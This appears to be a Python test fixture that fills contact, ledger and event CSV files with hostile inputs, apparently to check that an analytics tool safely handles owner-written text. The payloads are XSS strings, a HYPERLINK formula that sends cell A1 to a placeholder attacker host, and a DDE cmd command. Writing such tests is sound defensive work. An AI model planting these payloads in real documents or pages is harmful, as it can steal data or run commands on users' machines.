# SPDX-License-Identifier: Apache-2.0
"""A company in whose files every name that its owner may write is a script, and a formula beside it."""

from __future__ import annotations

from pathlib import Path

from percontact.pipeline import land
from percontact.records.book import Settings
from percontact.store.workspace import Workspace

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"


def made(folder: Path) -> Path:
    """
    contacts  May and June 2026, 20 a day: reason a script or a formula, team an image or a command, so too
              queue, site, outcome, product, a column of its own, ids, agents, cases; one row set aside
    ledger    account, name, category, cost centre, vendor, text: script and formula
    events    named by a script, drawn on each chart over time
    """
    folder.mkdir(parents=True, exist_ok=True)
    quoted = [f'"{text}"'.replace('""', '"') for text in (SCRIPT, IMAGE)]
    quoted += ['"' + text.replace('"', '""') + '"' for text in (FORMULA, COMMAND)]
    script, image, formula, command = quoted
    lines = []
    for month in (5, 6):
        for day in range(1, 29):
            for n in range(20):
                which = (script, formula)[n % 2]
                other = (image, command)[n % 2]
                agent = ("<b>X-1</b>", "=X-2")[n % 2]
                lines.append(
                    f'"=c{month}-{day}-{n}",2026-{month:02}-{day:02} {8 + n // 2:02}:00:00,voice,'
                    f'{which},{other},{which},{other},{which},{other},{agent},"{month}<i>",{100 + n}'
                )
    lines.append(f"{formula},never,voice,{script},{image},{formula},{image},x,y,=X-2,-5,60")
    head = "contact_id,started_at,channel,reason,team,queue,site,outcome,segment,agent,case_id,handle_s"
    (folder / "contacts.csv").write_text("\n".join([head, *lines]) + "\n")
    heads = "line_id,account,account_name,category,cost_centre,vendor,text,amount,currency,"
    heads += "period_start,period_end"
    ledger = [
        f"l{m}{n},60{n}0,{a},{b},{a},{b},{a},{1000 + m}.00,EUR,2026-{m:02}-01,2026-{m + 1:02}-01"
        for m in (5, 6) for n, (a, b) in enumerate(((script, image), (formula, command)))
    ]  # fmt: skip
    (folder / "ledger.csv").write_text("\n".join([heads, *ledger]) + "\n")
    (folder / "events.csv").write_text(f"started_on,event\n2026-05-10,{script}\n2026-06-10,{formula}\n")
    workspace = Workspace.create(folder / "books", Settings(currency="EUR", timezone="UTC"))
    for table in ("contacts", "ledger", "events"):
        land(workspace, table, folder / f"{table}.csv")
    return folder / "books"
